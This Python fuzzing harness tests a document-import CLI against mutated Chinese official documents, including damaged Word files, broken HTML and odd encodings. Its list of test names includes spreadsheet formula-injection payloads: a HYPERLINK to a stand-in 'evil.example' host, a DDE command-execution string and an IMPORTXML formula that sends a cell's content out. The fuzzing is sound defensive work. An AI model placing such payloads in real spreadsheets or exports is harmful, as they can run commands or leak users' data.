"""Fuzzing `qingdan import`: documents an office would send, mutated into the shapes that
once hung or broke it (issue 23), saved as .txt, .html or .docx, imported in process, and
the project it writes checked.

A case is a seed document (a list, measures cut into articles, an assessment with its
scoring, a notice issuing a list), a list of mutations of its lines, a format and, for
some, damage to the saved bytes:
- lines: a long single line (prose without punctuation, digits, commas, spaces, formula
  marks, quotes, labels), thousands of numbered lines, labels nested level under level,
  formula-like names (`=HYPERLINK(…)`, `=cmd|…`, `+1+1`, `@SUM(…)`) as the title, a unit's
  name, an item, a heading or a cited title, placeholder and YAML snippets, control
  characters; a line deleted, duplicated, swapped, cut, split or joined;
- format: UTF-8 (with or without BOM), UTF-16, GB18030, bytes that are neither, HTML
  (unclosed comments, deep nesting), Word (plain, numbered by Word, in a table, in content
  controls nested deep);
- damage to a Word file: corrupt deflate, a flipped byte, a failing CRC, a lying size, a
  truncated zip, XML cut short, document.xml missing.

`run_case` imports in process and reports what a user must never see: a traceback, a run
past the time limit, an exit code other than 0 or 1, and a written project that
`qingdan check` answers with a traceback (or a hang). tests/test_import_fuzz.py runs a
CI-sized sample; bench/fuzz_import.py the long run.
"""

from __future__ import annotations

import signal
import time
import traceback
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from click.testing import CliRunner
from hypothesis import strategies as st

from fuzzing import SNIPPETS
from import_inputs import (
    W_NS,
    corrupt_deflate,
    document_xml,
    flipped_byte,
    lying_size,
    nested_labels,
    truncated,
    word_file,
    wrong_crc,
)
from qingdan.cli import main

SEEDS: dict[str, list[str]] = {
    "list": ["局党委意识形态工作责任清单",
             "根据《党委（党组）意识形态工作责任制实施办法》（清委发〔2019〕12号），制定本清单。",
             "一、局党委主体责任清单", "1.牢牢掌握意识形态工作的领导权。",
             "2.每年至少两次专题研究意识形态工作。", "二、局党委书记第一责任人责任清单",
             "1.带头抓意识形态工作。", "三、班子成员“一岗双责”责任清单", "1.抓好分管领域的意识形态工作。",
             "中共某某县某某局委员会", "2024年3月1日"],
    "articles": ["某某县党建工作责任制实施办法", "第一章 总则",
                 "第一条 为落实全面从严治党主体责任，根据有关规定，制定本办法。",
                 "第二条 本办法适用于全县各级党组织。", "第二章 责任内容",
                 "第三条 党委（党组）履行下列职责：", "（一）把方向、管大局；", "（二）抓班子、带队伍。",
                 "第四条 书记履行第一责任人职责。第三条第（一）项规定的事项由书记牵头。",
                 "第五条 本办法自印发之日起施行。"],
    "assessment": ["某某乡党建工作责任制考核办法", "一、考核对象", "各村党支部。", "二、考核内容（100分）",
                   "（一）组织建设（40分）", "1.按期换届（20分）", "2.发展党员（20分）",
                   "（二）作风建设（60分）", "三、考核方式",
                   "目标考核得分占综合成绩的60%，作风评议得分占综合成绩的40%。",
                   "综合成绩=目标考核得分×60%+作风评议得分×40%。",
                   "90分以上为“优秀”，80—89分为“良好”，60—79分为“合格”，60分以下为“不合格”。",
                   "发生重大责任事故的，不得评为“优秀”“良好”。"],
    "notice": ["中共某某县委员会文件", "清委发〔2024〕3号", "关于印发《某某责任清单》的通知",
               "各乡镇党委，县直各单位党组（党委）：", "现将《某某责任清单》印发给你们，请认真贯彻落实。",
               "附件：某某责任清单", "中共某某县委员会", "2024年3月1日", "附件", "某某责任清单",
               "一、主体责任清单", "1.研究部署工作。", "2.检查落实情况。", "抄送：市委办公室。",
               "中共某某县委办公室 2024年3月2日印发"],
}
ALPHABETS = {
    "prose": "党委主体责任落实全面从严治党工作考核办法单位领导班子成员组织占综合总成绩得分按",
    "digits": "0123456789", "commas": ",", "spaces": " \u3000\t", "formula": "甲=乙×60%+丙",
    "quotes": "“”甲", "marks": "，。；：、", "brackets": "（）()《》〔〕", "labels": "第一条（一）1.、",
    "angles": "<>&;#!-", "points": "（10分）",
}
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/x","点击查看")', "=cmd|' /C calc'!A0",
                 "+1+1", "-2+3", "@SUM(A1:A9)", "=1+1", '＝HYPERLINK("x")', "\t=1+1",
                 "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]
PLACES = ["title", "unit", "item", "heading", "cited"]
LINE_OPS = ["long-line", "numbered", "nesting", "formula-name", "snippet", "delete",
            "duplicate", "swap", "cut", "split", "join", "control"]
FORMATS = ["utf-8", "utf-8-sig", "utf-16", "gb18030", "mixed", "html", "html-broken",
           "docx", "docx-numbered", "docx-table", "docx-nested"]
DAMAGE = ["corrupt-deflate", "flipped-byte", "wrong-crc", "size-small", "size-zero",
          "truncated", "xml-cut", "no-document", "styles-corrupt"]


@dataclass(frozen=True)
class Scale:
    """How large the generated shapes may be: small for CI, large for the long run."""

    line: int  # characters of a long line
    numbered: int  # numbered lines
    nesting: int  # labels or XML levels


CI = Scale(line=20_000, numbered=2_000, nesting=300)
LONG = Scale(line=300_000, numbered=60_000, nesting=5_000)


@dataclass(frozen=True)
class Mutation:
    op: str
    where: int
    size: int  # 0-1000: a fraction (per mille) of the scale's limit
    pick: int  # which alphabet, payload or place


@dataclass(frozen=True)
class Case:
    seed: str
    mutations: tuple[Mutation, ...]
    format: str
    damage: str | None

    def describe(self) -> str:
        """The case, readable enough to reproduce by hand."""
        return repr({"seed": self.seed, "format": self.format, "damage": self.damage,
                     "mutations": [vars(m) for m in self.mutations]})


MUTATION = st.builds(Mutation, op=st.sampled_from(LINE_OPS), where=st.integers(0, 10_000),
                     size=st.integers(0, 1000), pick=st.integers(0, 1000))
CASE = st.builds(
    Case, seed=st.sampled_from(sorted(SEEDS)),
    mutations=st.lists(MUTATION, min_size=1, max_size=3).map(tuple),
    format=st.sampled_from(FORMATS),
    damage=st.one_of(st.none(), st.none(), st.none(), st.sampled_from(DAMAGE)))


def lines_of(case: Case, scale: Scale) -> list[str]:
    """The seed's lines after the case's mutations."""
    lines = list(SEEDS[case.seed])
    for m in case.mutations:
        lines = _mutate(lines, m, scale)
    return lines


def _sized(m: Mutation, limit: int) -> int:
    """The mutation's size: mostly small, sometimes up to the limit."""
    return max(1, limit * m.size // 1000 if m.size > 900 else limit * m.size // 20_000)


def _mutate(lines: list[str], m: Mutation, scale: Scale) -> list[str]:
    lines = list(lines) or [""]
    i = m.where % len(lines)
    if m.op == "long-line":
        alphabet = list(ALPHABETS.values())[m.pick % len(ALPHABETS)]
        length = _sized(m, scale.line)
        line = (alphabet * (length // len(alphabet) + 1))[:length]
        lines.insert(i, line if m.pick % 2 else lines[i] + line)
    elif m.op == "numbered":
        count = _sized(m, scale.numbered)
        forms = ["{}.落实第{}项。", "（{}）落实第{}项", "第{}条 落实。", "{}、工作", "（{}）"]
        form = forms[m.pick % len(forms)]
        numerals = [str(n) for n in range(1, count + 1)] if m.pick % 2 else \
            [_chinese(n) for n in range(1, count + 1)]
        lines[i:i] = [form.format(n, k) for k, n in enumerate(numerals, 1)]
    elif m.op == "nesting":
        lines[i:i] = nested_labels(_sized(m, scale.nesting))[1:]
    elif m.op == "formula-name":
        name = FORMULA_NAMES[m.pick % len(FORMULA_NAMES)]
        place = PLACES[(m.pick // len(FORMULA_NAMES)) % len(PLACES)]
        if place == "title":
            lines[0] = name + lines[0]
        elif place == "unit":
            lines.append(f"中共{name}委员会")
        elif place == "item":
            lines.insert(i, f"3.{name}")
        elif place == "heading":
            lines.insert(i, f"四、{name}")
        else:
            lines.insert(i, f"根据《{name}》（清委发〔2019〕7号）执行。")
    elif m.op == "snippet":
        snippet = SNIPPETS[m.pick % len(SNIPPETS)]
        at = m.size % (len(lines[i]) + 1)
        lines[i] = lines[i][:at] + snippet + lines[i][at:]
    elif m.op == "control":
        lines[i] += "\x01\x1b\x7f\ufeff\u200b\u202e\ud7ff"[m.pick % 7]
    elif m.op == "delete":
        del lines[i]
    elif m.op == "duplicate":
        lines.insert(i, lines[i])
    elif m.op == "swap" and i + 1 < len(lines):
        lines[i], lines[i + 1] = lines[i + 1], lines[i]
    elif m.op == "cut":
        lines[i] = lines[i][: m.size % (len(lines[i]) + 1)]
    elif m.op == "split":
        at = m.size % (len(lines[i]) + 1)
        lines[i:i + 1] = [lines[i][:at], lines[i][at:]]
    elif m.op == "join" and i + 1 < len(lines):
        lines[i:i + 2] = [lines[i] + lines[i + 1]]
    return lines


def _chinese(n: int) -> str:
    from qingdan.words.numbering import chinese

    return chinese(min(n, 9999))


def saved(case: Case, scale: Scale) -> tuple[str, bytes]:
    """(file name, bytes) of the case as a user would hand it to qingdan import."""
    lines = lines_of(case, scale)
    text = "\n".join(lines)
    fmt = case.format
    if fmt.startswith("docx"):
        data = _word(lines, fmt, scale)
        return "导入.docx", _damaged(data, case.damage) if case.damage else data
    if fmt.startswith("html"):
        body = "".join(f"<p>{_escape(line)}</p>\n" for line in lines)
        if fmt == "html-broken":
            body = "<div>" * min(len(lines) * 10, 3000) + body + "<!--" * 500 + "<?x"
        page = f"<html><head><title>网页</title></head><body>{body}</body></html>"
        return "页面.html", page.encode("utf-8")
    if fmt == "mixed":
        data = text.encode("utf-8")
        half = len(data) // 2
        return "文本.txt", data[:half] + "混合".encode("gb18030") + data[half:]
    encoded = text.encode(fmt, "replace" if fmt == "gb18030" else "surrogatepass")
    return "文本.txt", encoded


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _word(lines: list[str], fmt: str, scale: Scale) -> bytes:
    if fmt == "docx":
        return word_file(lines)
    if fmt == "docx-numbered":  # every line numbered by Word, levels by position
        body = "".join(
            f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{n % 3}"/><w:numId w:val="1"/></w:numPr>'
            f'</w:pPr><w:r><w:t xml:space="preserve">{_escape(line)}</w:t></w:r></w:p>'
            for n, line in enumerate(lines))
        levels = "".join(f'<w:lvl w:ilvl="{n}"><w:start w:val="1"/><w:numFmt w:val="'
                         f'{fmt_}"/><w:lvlText w:val="{text}"/></w:lvl>' for n, (fmt_, text)
                         in enumerate([("chineseCounting", "%1、"), ("chineseCounting", "（%2）"),
                                       ("decimal", "%3.")]))
        numbering = (f'<w:numbering xmlns:w="{W_NS}"><w:abstractNum w:abstractNumId="0">'
                     f'{levels}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/>'
                     "</w:num></w:numbering>")
        return word_file([], {"word/document.xml": _document(body),
                              "word/numbering.xml": numbering})
    if fmt == "docx-table":  # 序号 | 内容, as a list kept in a table
        rows = "".join(f"<w:tr><w:tc><w:p><w:r><w:t>{n}</w:t></w:r></w:p></w:tc><w:tc><w:p>"
                       f'<w:r><w:t xml:space="preserve">{_escape(line)}</w:t></w:r></w:p>'
                       "</w:tc></w:tr>" for n, line in enumerate(lines, 1))
        return word_file([], {"word/document.xml": _document(
            "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>序号</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r>"
            f"<w:t>内容</w:t></w:r></w:p></w:tc></w:tr>{rows}</w:tbl>")})
    # Content controls within content controls: mostly within lxml's depth of 256, at
    # times past it (refused as XML nested too deep).
    depth = 1 + len("".join(lines)) % min(scale.nesting, 140)
    inner = "".join(f'<w:p><w:r><w:t xml:space="preserve">{_escape(line)}</w:t></w:r></w:p>'
                    for line in lines)
    return word_file([], {"word/document.xml": _document(
        "<w:sdt><w:sdtContent>" * depth + inner + "</w:sdtContent></w:sdt>" * depth)})


def _document(body: str) -> str:
    return document_xml([]).replace("<w:body></w:body>", f"<w:body>{body}</w:body>")


def _damaged(data: bytes, damage: str) -> bytes:
    if damage == "corrupt-deflate":
        return corrupt_deflate(data)
    if damage == "flipped-byte":
        return flipped_byte(data)
    if damage == "wrong-crc":
        return wrong_crc(data)
    if damage == "size-small":
        return lying_size(data, 10)
    if damage == "size-zero":
        return lying_size(data, 0)
    if damage == "truncated":
        return truncated(data, 0.6)
    if damage == "xml-cut":
        import io
        import zipfile

        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            xml = archive.read("word/document.xml")
        return word_file([], {"word/document.xml": xml[: len(xml) // 2]})
    if damage == "no-document":
        return word_file([], {"word/document.xml": None})
    styles = f'<w:styles xmlns:w="{W_NS}">' + '<w:style w:styleId="a"/>' * 40 + "</w:styles>"
    return corrupt_deflate(word_file([], {"word/document.xml": _document(""),
                                          "word/styles.xml": styles}), "word/styles.xml")


@dataclass
class Outcome:
    exit_code: int | None = None  # None: ran past the time limit
    traceback: str | None = None
    seconds: float = 0.0
    check_exit: int | None = None  # the written project's `qingdan check`; None: not run
    check_traceback: str | None = None
    check_hang: bool = False

    def findings(self) -> list[str]:
        """What a user must never see, in words."""
        found = []
        if self.traceback:
            found.append("import traceback")
        if self.exit_code is None:
            found.append("import hang")
        elif self.exit_code not in (0, 1):
            found.append(f"import exit {self.exit_code}")
        if self.check_traceback:
            found.append("check traceback")
        if self.check_hang:
            found.append("check hang")
        return found


class Hang(BaseException):
    """Raised by the alarm when a case runs past its time limit (not an Exception, so no
    handler inside qingdan can mistake it for a user's error)."""


FIRED: list[bool] = []  # set by the alarm: a Hang raised where Python ignores it (a gc
# callback prints "Exception ignored" and goes on) still counts as running past the limit


def _alarm(signum: int, frame: Any) -> None:
    FIRED.append(True)
    raise Hang()


def _invoke(args: list[str], limit: float) -> tuple[int | None, str | None]:
    """(exit code or None past the limit, a traceback if one escaped) of one command."""
    previous = signal.signal(signal.SIGALRM, _alarm)
    FIRED.clear()
    signal.setitimer(signal.ITIMER_REAL, limit)
    try:
        result = CliRunner().invoke(main, args, catch_exceptions=True)
    except Hang:
        return None, None
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    if FIRED:
        return None, None
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        if isinstance(result.exception, Hang):
            return None, None
        return result.exit_code, "".join(traceback.format_exception(result.exception))
    if "Traceback" in result.output:
        return result.exit_code, result.output
    return result.exit_code, None


def run_case(name: str, data: bytes, folder: Path, limit: float = 10.0) -> Outcome:
    """Import the file into folder/out, then check what was written."""
    source = folder / name
    source.write_bytes(data)
    out = folder / "out"
    outcome = Outcome()
    started = time.monotonic()
    outcome.exit_code, outcome.traceback = _invoke(["import", str(source), "-o", str(out)],
                                                   limit)
    outcome.seconds = time.monotonic() - started
    if outcome.exit_code == 0:
        outcome.check_exit, outcome.check_traceback = _invoke(["check", str(out)], limit)
        outcome.check_hang = outcome.check_exit is None
    return outcome
